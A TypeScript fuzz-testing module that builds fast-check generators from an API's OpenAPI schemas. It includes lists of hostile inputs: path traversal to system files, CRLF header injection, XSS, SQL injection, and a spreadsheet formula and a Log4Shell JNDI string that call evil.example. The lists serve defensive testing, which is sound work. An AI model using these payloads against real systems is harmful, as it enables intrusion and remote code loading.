/**
 * The fuzzer's view of the API: every operation of the checked-in OpenAPI document
 * (`openapi/openapi.json`) with its parameters and body schema resolved, and fast-check
 * arbitraries built from those JSON Schemas: values that conform (so requests reach deep
 * into the handlers), values with one field swapped for something hostile, and the
 * hand-picked nasties (NUL, CRLF, `../`, `%2e%2e`, huge numbers, deep nesting, wrong types).
 */
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { OPENAPI_FILE } from '../../src/openapi/document.js';

export type JsonSchema = {
  $ref?: string;
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  propertyNames?: JsonSchema;
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minItems?: number;
  maxItems?: number;
  pattern?: string;
  format?: string;
  default?: unknown;
};

export type Parameter = { name: string; in: 'path' | 'query' | 'header'; required: boolean; schema: JsonSchema };

export type Operation = {
  method: string;
  /** The template, e.g. `/api/orders/{id}`. */
  path: string;
  operationId: string;
  params: Parameter[];
  body?: JsonSchema;
  /** Accepts admin credentials (required or optional). */
  admin: boolean;
  /** Requires them. */
  adminOnly: boolean;
  /** Declared responses: status → content types. */
  responses: Record<string, string[]>;
};

type Doc = {
  paths: Record<
    string,
    Record<
      string,
      {
        operationId?: string;
        parameters?: Parameter[];
        security?: Record<string, unknown>[];
        requestBody?: { content: Record<string, { schema: JsonSchema }> };
        responses: Record<string, { content?: Record<string, unknown> }>;
      }
    >
  >;
  components: { schemas: Record<string, JsonSchema> };
};

export function loadDocument(): Doc {
  return JSON.parse(readFileSync(OPENAPI_FILE, 'utf8')) as Doc;
}

/** Follows `$ref`s into `components.schemas`. */
function resolve(doc: Doc, schema: JsonSchema): JsonSchema {
  let s = schema;
  for (let i = 0; s.$ref && i < 10; i++) {
    const name = s.$ref.replace('#/components/schemas/', '');
    const target = doc.components.schemas[name];
    if (!target) throw new Error(`unresolved ${s.$ref}`);
    s = target;
  }
  return s;
}

export function operations(doc: Doc = loadDocument()): Operation[] {
  const out: Operation[] = [];
  for (const [path, ops] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(ops)) {
      const json = op.requestBody?.content['application/json']?.schema;
      out.push({
        method: method.toUpperCase(),
        path,
        operationId: op.operationId ?? `${method} ${path}`,
        params: (op.parameters ?? []).map((p) => ({ ...p, schema: resolve(doc, p.schema) })),
        body: json ? resolve(doc, json) : undefined,
        admin: (op.security ?? []).some((s) => 'adminToken' in s),
        adminOnly: (op.security ?? []).length > 0 && (op.security ?? []).every((s) => 'adminToken' in s),
        responses: Object.fromEntries(
          Object.entries(op.responses).map(([status, r]) => [status, Object.keys(r.content ?? {})]),
        ),
      });
    }
  }
  return out;
}

// ------------------------------------------------------------------ hostile values

/** Strings that have broken servers before. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\r\n',
  'x\r\nSet-Cookie: pwned=1',
  'x\r\nBcc: victim@example.com',
  '\n\n\n',
  '../',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%2f..%2f',
  '%00',
  '%',
  '%E0%A4%A',
  '/etc/passwd',
  'C:\\boot.ini',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE orders; --",
  "' OR '1'='1",
  '=HYPERLINK("http://evil.example","x")',
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell string, literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '99999999999999999999999999999',
  '0x10',
  '\uFEFF',
  '\u202Eevil',
  '\uD800',
  '😀'.repeat(50),
  'Ａ'.repeat(120),
  'a'.repeat(101),
  'a'.repeat(255),
  'a'.repeat(5000),
  'AX26-0001',
  'ax26-0001',
  'AX26-99999999999999999999',
];

/** Numbers at and beyond every boundary a schema might have. */
export const NASTY_NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  1,
  0.5,
  1.5,
  99,
  100,
  101,
  2 ** 31,
  2 ** 53,
  2 ** 53 + 2,
  -(2 ** 53),
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
  Number.MIN_VALUE,
  1e308,
];

/** Path segments, already in URL form (some deliberately not encoded). */
export const TRAVERSAL_SEGMENTS: readonly string[] = [
  '..',
  '.',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%2e.',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '%2e%2e%2f%2e%2e%2fdata%2forders.db',
  '..%5c..%5cwindows',
  '%00',
  'a%00.jpg',
  '%2fetc%2fpasswd',
  '%2f',
  '%5c',
  '..%c0%af..%c0%afetc',
  '%c0%ae%c0%ae',
  '%E0%A4%A',
  '%',
  '%ZZ',
  encodeURIComponent('\r\nX-Injected: 1'),
  encodeURIComponent('<script>alert(1)</script>'),
  encodeURIComponent('a'.repeat(600)),
  'C:%5cboot.ini',
  '~',
  '*',
  '%20',
];

/** Any JSON value of the wrong kind, or a deep one. */
export function wrongTypeArb(): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom<unknown>(null, true, false, 0, -1, 1e308, '', [], {}, [null], { '': null }),
    fc.constantFrom(...NASTY_STRINGS),
    fc.constantFrom(...NASTY_NUMBERS),
    fc.jsonValue({ maxDepth: 3 }),
    // Deeper ones go as raw text (JSON.stringify itself recurses): see deepJson.
    fc.integer({ min: 50, max: 500 }).map(deepArray),
    fc.integer({ min: 50, max: 500 }).map(deepObject),
  );
}

function deepArray(depth: number): unknown {
  let v: unknown = 1;
  for (let i = 0; i < depth; i++) v = [v];
  return v;
}

/** `depth` nested arrays or objects as JSON text, however deep. */
export function deepJson(depth: number, kind: 'array' | 'object' = 'array'): string {
  return kind === 'array'
    ? `${'['.repeat(depth)}1${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

function deepObject(depth: number): unknown {
  let v: unknown = 'x';
  for (let i = 0; i < depth; i++) v = { a: v };
  return v;
}

// ------------------------------------------------------------------ schema → arbitrary

function types(schema: JsonSchema): string[] {
  if (schema.type) return Array.isArray(schema.type) ? schema.type : [schema.type];
  if (schema.properties) return ['object'];
  if (schema.items) return ['array'];
  return [];
}

function stringArb(schema: JsonSchema): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.min(schema.maxLength ?? 40, minLength + 40);
  if (schema.pattern) {
    try {
      const re = new RegExp(schema.pattern, 'u');
      return fc.stringMatching(re).filter((s) => s.length >= minLength && s.length <= (schema.maxLength ?? 1e9));
    } catch {
      // a pattern fast-check cannot invert: plain strings will do
    }
  }
  if (schema.format === 'email') return fc.emailAddress();
  if (schema.format === 'date-time') return fc.date({ noInvalidDate: true }).map((d) => d.toISOString());
  if (schema.format === 'uri') return fc.webUrl();
  return fc.string({ minLength, maxLength, unit: 'grapheme' });
}

function numberArb(schema: JsonSchema, integer: boolean): fc.Arbitrary<number> {
  const min = schema.minimum ?? schema.exclusiveMinimum ?? -1e6;
  const max = Math.min(schema.maximum ?? schema.exclusiveMaximum ?? 1e6, min + 1e6);
  if (integer) return fc.integer({ min: Math.ceil(min), max: Math.floor(max) });
  return fc.double({ min, max, noNaN: true, noDefaultInfinity: true });
}

/**
 * Values that conform to `schema` (as far as a generator can tell without the server's
 * refinements), so that requests get past validation and into the handlers.
 */
export function conformingArb(doc: Doc, raw: JsonSchema, depth = 0): fc.Arbitrary<unknown> {
  const schema = resolve(doc, raw);
  if (depth > 6) return fc.constant(null);
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map((s) => conformingArb(doc, s, depth + 1)));
  if (schema.allOf?.length) return conformingArb(doc, schema.allOf[0] as JsonSchema, depth + 1);
  const options = types(schema).map((type): fc.Arbitrary<unknown> => {
    switch (type) {
      case 'string':
        return stringArb(schema);
      case 'integer':
        return numberArb(schema, true);
      case 'number':
        return numberArb(schema, false);
      case 'boolean':
        return fc.boolean();
      case 'null':
        return fc.constant(null);
      case 'array':
        return fc.array(schema.items ? conformingArb(doc, schema.items, depth + 1) : fc.jsonValue({ maxDepth: 1 }), {
          minLength: schema.minItems ?? 0,
          maxLength: Math.min(schema.maxItems ?? 5, (schema.minItems ?? 0) + 5),
        });
      case 'object':
        return objectArb(doc, schema, depth);
      default:
        return fc.jsonValue({ maxDepth: 2 });
    }
  });
  return options.length === 0 ? fc.jsonValue({ maxDepth: 2 }) : fc.oneof(...options);
}

function objectArb(doc: Doc, schema: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  const props = schema.properties ?? {};
  const record: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [k, v] of Object.entries(props)) record[k] = conformingArb(doc, v, depth + 1);
  const required = (schema.required ?? []).filter((k) => k in props);
  const known = fc.record(record, { requiredKeys: required });
  if (typeof schema.additionalProperties !== 'object') return known;
  const keys = schema.propertyNames ? (conformingArb(doc, schema.propertyNames) as fc.Arbitrary<string>) : fc.string();
  const extra = fc.dictionary(keys, conformingArb(doc, schema.additionalProperties, depth + 1), { maxKeys: 4 });
  return fc.tuple(known, extra).map(([a, b]) => ({ ...b, ...(a as object) }));
}

/**
 * A conforming value with one thing changed: a property replaced by a wrong type or a nasty
 * string, a required one dropped, an unknown one added, or a string/array/number pushed past
 * its bounds.
 */
export function mutatedArb(doc: Doc, raw: JsonSchema, base?: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const schema = resolve(doc, raw);
  return fc
    .tuple(
      base ?? conformingArb(doc, schema),
      fc.nat(),
      fc.constantFrom('replace', 'drop', 'add', 'stretch', 'nested'),
      wrongTypeArb(),
    )
    .map(([value, pick, how, wrong]) => mutate(doc, schema, value, pick, how, wrong));
}

function mutate(doc: Doc, schema: JsonSchema, value: unknown, pick: number, how: string, wrong: unknown): unknown {
  if (value === null || typeof value !== 'object' || Array.isArray(value)) {
    if (how === 'stretch') return stretched(schema, value);
    return wrong;
  }
  const obj = { ...(value as Record<string, unknown>) };
  const keys = Object.keys(schema.properties ?? obj);
  const key = keys.length ? (keys[pick % keys.length] as string) : 'x';
  const child = schema.properties?.[key] ? resolve(doc, schema.properties[key] as JsonSchema) : {};
  switch (how) {
    case 'drop':
      delete obj[key];
      return obj;
    case 'add':
      obj[NASTY_STRINGS[pick % NASTY_STRINGS.length] || 'extra'] = wrong;
      return obj;
    case 'stretch':
      obj[key] = stretched(child, obj[key]);
      return obj;
    case 'nested':
      obj[key] = mutate(doc, child, obj[key], Math.floor(pick / 7), 'replace', wrong);
      return obj;
    default:
      obj[key] = wrong;
      return obj;
  }
}

/** Just past the declared bounds. */
function stretched(schema: JsonSchema, value: unknown): unknown {
  if (typeof value === 'string') return value.padEnd((schema.maxLength ?? 1000) + 1, 'x');
  if (typeof value === 'number') return (schema.maximum ?? 2 ** 53) + 1;
  if (Array.isArray(value)) return Array.from({ length: (schema.maxItems ?? 200) + 1 }, () => value[0] ?? 1);
  return value;
}
